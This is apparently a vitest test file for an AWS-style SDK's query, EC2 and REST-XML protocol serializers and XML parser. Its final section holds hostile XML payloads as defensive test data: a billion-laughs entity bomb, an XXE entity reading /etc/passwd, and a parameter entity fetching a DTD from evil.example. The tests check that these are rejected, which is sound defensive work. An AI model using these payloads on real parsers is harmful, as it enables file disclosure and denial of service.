// The XML protocols' pieces with hand-built schemas: the form serializer, the XML reader and
// writer, and each protocol's request, output and error functions; and hostile documents
// (DOCTYPE, entities, billion laughs) becoming ResponseParseError quickly.
import { describe, expect, it } from "vitest";
import { ResponseParseError, ServiceException, type ExceptionInit, type ResponseMetadata } from "../generator/runtime/errors.js";
import type { ErrorSchema, ListSchema, MapSchema, OperationSchema, StructureSchema } from "../generator/runtime/schema.js";
import type { HttpResponseParts, ProtocolFacts } from "../generator/runtime/protocols/protocol.js";
import { encodeForm, formBody, writeFormStructure } from "../generator/runtime/codecs/form.js";
import { parseXml, writeXml } from "../generator/runtime/codecs/xml.js";
import { readXmlValue, structureNode } from "../generator/runtime/codecs/xml-body.js";
import { utf8Decode, utf8Encode } from "../generator/runtime/codecs/encoding.js";
import { awsQuery } from "../generator/runtime/protocols/query.js";
import { ec2Query } from "../generator/runtime/protocols/ec2.js";
import { restXml } from "../generator/runtime/protocols/rest-xml.js";

class TestException extends ServiceException {
  constructor(init: ExceptionInit) {
    super({ ...init, name: init.name ?? "TestException" });
  }
}
class ThrottledError extends TestException {
  constructor(init: ExceptionInit) {
    super({ ...init, name: "ThrottledError" });
  }
}
const facts: ProtocolFacts & { readonly apiVersion: string } = {
  apiVersion: "2020-01-08",
  baseException: TestException,
};
const $metadata: ResponseMetadata = { attempts: 1, totalRetryDelay: 0 };
const response = (body: string, statusCode = 200, headers: Record<string, string> = {}): HttpResponseParts => ({
  statusCode,
  headers,
  body: utf8Encode(body),
});

const Tags: ListSchema = { type: "list", member: "string" };
const Named: ListSchema = { type: "list", member: "string", memberName: "item" };
const Attributes: MapSchema = { type: "map", key: "string", value: "integer", keyName: "Name", valueName: "Value" };
const Inner: StructureSchema = {
  type: "structure",
  name: "Inner",
  members: { Id: { target: "string" }, Tags: { target: Tags } },
};
const Input: StructureSchema = {
  type: "structure",
  name: "Input",
  members: {
    Name: { target: "string" },
    Enabled: { target: "boolean" },
    At: { target: "timestamp" },
    Data: { target: "blob" },
    Ratio: { target: "double" },
    Tags: { target: Tags },
    Flat: { target: Named, flattened: true, locationName: "Flat" },
    Items: { target: Named },
    Attrs: { target: Attributes },
    FlatAttrs: { target: Attributes, flattened: true },
    Nested: { target: Inner, locationName: "Inner" },
    private: { target: "string", queryName: "Private", locationName: "privateValue" },
    dryRun: { target: "boolean", locationName: "dryRun" },
  },
};

function pairs(dialect: "query" | "ec2", value: Record<string, unknown>): Array<[string, string]> {
  const out: Array<[string, string]> = [];
  writeFormStructure(out, dialect, Input, value, "");
  return out;
}

describe("the form serializer", () => {
  const value = {
    Name: "a b&c=é",
    Enabled: false,
    At: new Date(Date.UTC(2024, 0, 2, 3, 4, 5)),
    Data: "hi",
    Ratio: -Infinity,
    Tags: ["x", "y"],
    Flat: ["f"],
    Items: ["i"],
    Attrs: { k: 1 },
    FlatAttrs: { j: 2 },
    Nested: { Id: "n", Tags: [] },
  };

  it("writes query keys: member.N, entry.N, flattened renames, nested dots, empty lists", () => {
    expect(pairs("query", value)).toEqual([
      ["Name", "a b&c=é"],
      ["Enabled", "false"],
      ["At", "2024-01-02T03:04:05Z"],
      ["Data", "aGk="],
      ["Ratio", "-Infinity"],
      ["Tags.member.1", "x"],
      ["Tags.member.2", "y"],
      ["item.1", "f"],
      ["Items.item.1", "i"],
      ["Attrs.entry.1.Name", "k"],
      ["Attrs.entry.1.Value", "1"],
      ["FlatAttrs.1.Name", "j"],
      ["FlatAttrs.1.Value", "2"],
      ["Inner.Id", "n"],
      ["Inner.Tags", ""],
    ]);
  });

  it("writes ec2 keys: queryName, capitalised locationName or name, lists always Key.N, empty lists left out", () => {
    const out = pairs("ec2", { ...value, private: "p", dryRun: true });
    expect(out).toContainEqual(["Tags.1", "x"]);
    expect(out).toContainEqual(["Flat.1", "f"]);
    expect(out).toContainEqual(["Items.1", "i"]);
    expect(out).toContainEqual(["Inner.Id", "n"]);
    expect(out).toContainEqual(["Private", "p"]);
    expect(out).toContainEqual(["DryRun", "true"]);
    expect(out.some(([key]) => key === "Inner.Tags")).toBe(false);
  });

  it("percent-encodes keys and values (RFC 3986, %20 for spaces) after Action and Version", () => {
    expect(encodeForm([["A b", "c+d/é~"]])).toBe("A%20b=c%2Bd%2F%C3%A9~");
    expect(formBody("query", "Op", "2020-01-08", Input, { Name: "x y" })).toBe("Action=Op&Version=2020-01-08&Name=x%20y");
  });
});

describe("the XML reader and writer", () => {
  it("keeps text exactly: no coercion, whitespace kept, entities and CDATA decoded, prefixes stripped from local names", () => {
    const root = parseXml(
      `<?xml version="1.0"?><p:R xmlns:p="u" a="1 &amp; &#x32;"><n>007</n><s>  </s><t>true</t><c><![CDATA[<&amp;>]]></c><e>&lt;&#233;&gt;</e></p:R>`,
    )!;
    expect(root.local).toBe("R");
    expect(root.attributes["a"]).toBe("1 & 2");
    expect(root.children.map((c) => c.text)).toEqual(["007", "  ", "true", "<&amp;>", "<é>"]);
  });

  it("refuses what is not one well-formed element", () => {
    for (const bad of ["<a><b></a>", "<a/><b/>", "<a>&nbsp;</a>", "<a>x", "plain text"]) expect(() => parseXml(bad)).toThrow(TypeError);
    expect(parseXml("  \n")).toBeUndefined();
  });

  it("writes escaped text and attributes that read back the same", () => {
    const text = `a<b>&"c'\r\n\td`;
    const xml = writeXml({ name: "R", attributes: [["v", text]], children: [{ name: "t", text }] });
    const root = parseXml(xml)!;
    expect(root.attributes["v"]).toBe(text);
    expect(root.children[0]!.text).toBe(text);
  });

  it("writes and reads structures by the schema: attributes, namespaces, wrapped and flattened lists, maps", () => {
    const Doc: StructureSchema = {
      type: "structure",
      name: "Doc",
      xmlNamespace: { uri: "http://x", prefix: "x" },
      members: {
        id: { target: "string", xmlAttribute: true, locationName: "xsi:id" },
        when: { target: { type: "timestamp", format: "rfc822" } },
        list: { target: Named },
        flat: { target: Tags, flattened: true, locationName: "f" },
        map: { target: Attributes },
        n: { target: "long" },
      },
    };
    const value = { id: "7", when: new Date(0), list: ["a", "b"], flat: ["c", "d"], map: { k: 3 }, n: 12 };
    const xml = writeXml(structureNode("Doc", Doc, value, undefined));
    expect(xml).toBe(
      '<Doc xmlns:x="http://x" xsi:id="7"><when>Thu, 01 Jan 1970 00:00:00 GMT</when><list><item>a</item><item>b</item></list>' +
        "<f>c</f><f>d</f><map><entry><Name>k</Name><Value>3</Value></entry></map><n>12</n></Doc>",
    );
    expect(readXmlValue(Doc, parseXml(xml)!)).toEqual(value);
  });

  it("reads scalars with the JSON path's strict checks", () => {
    const S: StructureSchema = { type: "structure", name: "S", members: { n: { target: "integer" } } };
    expect(readXmlValue(S, parseXml("<S><n> 42 </n></S>")!)).toEqual({ n: 42 });
    for (const bad of ["4.5", "0x10", "", "3000000000"]) expect(() => readXmlValue(S, parseXml(`<S><n>${bad}</n></S>`)!)).toThrow(/n/);
  });
});

// ---- the protocols ---------------------------------------------------------------------------

const Out: StructureSchema = {
  type: "structure",
  name: "Out",
  members: { Count: { target: "integer" }, Items: { target: Tags }, requestId: { target: "string" } },
};
const Throttled: StructureSchema = {
  type: "structure",
  name: "ThrottledError",
  members: { Message: { target: "string" }, Retry: { target: "integer" } },
};
const throttled: ErrorSchema = {
  code: "Throttling",
  schema: Throttled,
  ctor: ThrottledError,
  fault: "client",
  httpStatusCode: 400,
};
const op: OperationSchema = {
  name: "List",
  method: "POST",
  requestUri: "/",
  input: Input,
  output: Out,
  errors: [throttled],
};

describe("awsQuery", () => {
  it("posts a form naming Action and Version", () => {
    const req = awsQuery.serializeRequest(facts, op, { Name: "n", Tags: [] });
    expect(req).toMatchObject({ method: "POST", path: "/", query: [], hostPrefix: undefined });
    expect(req.headers["content-type"]).toBe("application/x-www-form-urlencoded; charset=utf-8");
    expect(req.body).toBe("Action=List&Version=2020-01-08&Name=n&Tags=");
  });

  it("reads the output inside <OpResult>, or the named resultWrapper", () => {
    const body =
      "<ListResponse><ListResult><Count>2</Count><Items><member>a</member></Items></ListResult><ResponseMetadata><RequestId>r</RequestId></ResponseMetadata></ListResponse>";
    expect(awsQuery.deserializeOutput(facts, op, response(body), $metadata)).toEqual({ Count: 2, Items: ["a"] });
    const wrapped = { ...op, resultWrapper: "Other" };
    expect(awsQuery.deserializeOutput(facts, wrapped, response(body.replace(/ListResult/g, "Other")), $metadata)).toEqual({
      Count: 2,
      Items: ["a"],
    });
  });

  it("names the member a wrong value sits in", () => {
    const res = response("<ListResponse><ListResult><Count>two</Count></ListResult></ListResponse>");
    expect(() => awsQuery.deserializeOutput(facts, op, res, $metadata)).toThrow(ResponseParseError);
    expect(() => awsQuery.deserializeOutput(facts, op, res, $metadata)).toThrow(/Count: expected an integer/);
  });

  it("maps error codes (custom awsQueryError codes included) to modelled errors", () => {
    const body =
      "<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code><Message>slow down</Message><Retry>3</Retry></Error><RequestId>req-1</RequestId></ErrorResponse>";
    const error = awsQuery.deserializeError(facts, op, response(body, 400), $metadata);
    expect(error).toBeInstanceOf(ThrottledError);
    expect(error.message).toBe("slow down");
    expect(error).toMatchObject({ Message: "slow down", Retry: 3, $fault: "client" });
    expect(error.$metadata.requestId).toBe("req-1");
  });

  it("takes the message from the modelled member when the envelope has no <Message>", () => {
    const body = "<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code><Message>only here</Message></Error></ErrorResponse>";
    const lower = body.replace(/<(\/?)Message>/g, "<$1message>");
    const Lower: StructureSchema = { ...Throttled, members: { message: { target: "string" } } };
    const lowerOp: OperationSchema = { ...op, errors: [{ ...throttled, schema: Lower }] };
    expect(awsQuery.deserializeError(facts, lowerOp, response(lower, 400), $metadata)).toMatchObject({ message: "only here" });
    const without = body.replace(/<Message>.*<\/Message>/, "");
    expect(awsQuery.deserializeError(facts, lowerOp, response(without, 400), $metadata).message).toBe("Throttling (HTTP 400)");
  });

  it("gives unknown codes the base exception, with the fault from Type", () => {
    const body = "<ErrorResponse><Error><Type>Receiver</Type><Code>Boom</Code><Message>m</Message><Extra>e</Extra></Error></ErrorResponse>";
    const error = awsQuery.deserializeError(facts, op, response(body, 500), $metadata);
    expect(error).toBeInstanceOf(TestException);
    expect(error).toMatchObject({ name: "Boom", $fault: "server", Extra: "e" });
    const none = awsQuery.deserializeError(facts, op, response("<html>bad gateway</html>", 502), $metadata);
    expect(none.name).toBe("Http502Error");
  });
});

describe("ec2Query", () => {
  it("reads the output straight inside <OpResponse> and errors from <Response><Errors>", () => {
    const out = ec2Query.deserializeOutput(
      facts,
      op,
      response("<ListResponse xmlns='http://ec2'><requestId>r</requestId><Count>1</Count></ListResponse>"),
      $metadata,
    );
    expect(out).toEqual({ requestId: "r", Count: 1 });
    const body =
      "<Response><Errors><Error><Code>Throttling</Code><Message>m</Message></Error></Errors><RequestID>req-2</RequestID></Response>";
    const error = ec2Query.deserializeError(facts, op, response(body, 400), $metadata);
    expect(error).toBeInstanceOf(ThrottledError);
    expect(error.$metadata.requestId).toBe("req-2");
  });
});

describe("restXml", () => {
  const Payload: StructureSchema = {
    type: "structure",
    name: "Config",
    xmlNamespace: { uri: "http://s3" },
    members: { Mode: { target: "string" } },
  };
  const PutInput: StructureSchema = {
    type: "structure",
    name: "PutInput",
    payload: "Config",
    members: {
      Bucket: { target: "string", location: "uri", locationName: "Bucket" },
      Since: { target: "timestamp", location: "header", locationName: "x-since" },
      Config: { target: Payload, locationName: "CreateBucketConfiguration" },
    },
  };
  const BodyOut: StructureSchema = {
    type: "structure",
    name: "BodyOut",
    members: {
      Since: { target: "timestamp", location: "header", locationName: "x-since" },
      At: { target: "timestamp" },
      Blob: { target: "blob" },
    },
  };
  const put: OperationSchema = {
    name: "Put",
    method: "PUT",
    requestUri: "/{Bucket}",
    input: PutInput,
    output: BodyOut,
    errors: [throttled],
  };

  it("binds labels and headers and writes the payload structure at its root element with its namespace", () => {
    const req = restXml.serializeRequest(facts, put, { Bucket: "b", Since: new Date(0), Config: { Mode: "x" } });
    expect(req.path).toBe("/b");
    expect(req.headers["x-since"]).toBe("Thu, 01 Jan 1970 00:00:00 GMT");
    expect(req.headers["content-type"]).toBe("application/xml");
    expect(req.body).toBe('<CreateBucketConfiguration xmlns="http://s3"><Mode>x</Mode></CreateBucketConfiguration>');
    expect(restXml.serializeRequest(facts, put, { Bucket: "b" }).body).toBeUndefined();
  });

  it("reads headers as HTTP dates and the body's timestamps as ISO 8601", () => {
    const res = response("<BodyOut><At>2024-01-02T03:04:05Z</At><Blob>aGk=</Blob></BodyOut>", 200, {
      "x-since": "Thu, 01 Jan 1970 00:00:01 GMT",
    });
    const out = restXml.deserializeOutput(facts, put, res, $metadata);
    expect(out).toEqual({ Since: new Date(1000), At: new Date(Date.UTC(2024, 0, 2, 3, 4, 5)), Blob: utf8Encode("hi") });
  });

  it("reads errors in the <ErrorResponse> form and S3's bare <Error> form", () => {
    const wrapped =
      "<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code><Message>a</Message></Error><RequestId>r1</RequestId></ErrorResponse>";
    const bare = "<Error><Code>Throttling</Code><Message>b</Message><RequestId>r2</RequestId><HostId>h</HostId></Error>";
    expect(restXml.deserializeError(facts, put, response(wrapped, 503), $metadata)).toMatchObject({
      message: "a",
      $metadata: { requestId: "r1" },
    });
    const error = restXml.deserializeError(facts, put, response(bare, 503), $metadata);
    expect(error).toBeInstanceOf(ThrottledError);
    expect(error).toMatchObject({ message: "b", $metadata: { requestId: "r2" } });
    expect(restXml.deserializeError(facts, put, response("", 404), $metadata).name).toBe("Http404Error");
  });
});

describe("hostile XML responses", () => {
  const lol = (depth: number): string => {
    let doc = '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n';
    for (let i = 1; i <= depth; i++) doc += `<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">\n`;
    return doc + `]>\n<ListResponse><ListResult><Items><member>&lol${depth};</member></Items></ListResult></ListResponse>`;
  };
  const documents: Record<string, string> = {
    "a billion laughs": lol(9),
    "an external entity":
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><ListResponse><ListResult><Items><member>&xxe;</member></Items></ListResult></ListResponse>',
    "a lower-case doctype": "<!doctype ListResponse><ListResponse/>",
    "a parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><ListResponse/>',
    "an undeclared entity": "<ListResponse><ListResult><Items><member>&xxe;</member></Items></ListResult></ListResponse>",
  };

  for (const [what, body] of Object.entries(documents)) {
    it(`refuses ${what} as a ResponseParseError, quickly`, () => {
      for (const protocol of [awsQuery, ec2Query, restXml]) {
        const started = performance.now();
        let caught: unknown;
        try {
          protocol.deserializeOutput(
            facts,
            protocol === restXml ? { ...op, output: { ...Out, name: "ListResponse" } } : op,
            response(body),
            $metadata,
          );
        } catch (error) {
          caught = error;
        }
        expect(caught).toBeInstanceOf(ResponseParseError);
        expect((caught as Error).message).not.toContain("lollol");
        expect((caught as ResponseParseError).$response.body).toBe(body);
        expect(performance.now() - started).toBeLessThan(250);
      }
    });
  }

  it("reads an error response with a DOCTYPE as an error without a code, nothing expanded", () => {
    const body = lol(9).replace(/<ListResponse>.*$/s, "<ErrorResponse><Error><Code>&lol9;</Code></Error></ErrorResponse>");
    const error = awsQuery.deserializeError(facts, op, response(body, 400), $metadata);
    expect(error.name).toBe("Http400Error");
    expect(error.message.length).toBeLessThan(400);
    expect(utf8Decode(utf8Encode(error.$response!.body))).toBe(body);
  });
});
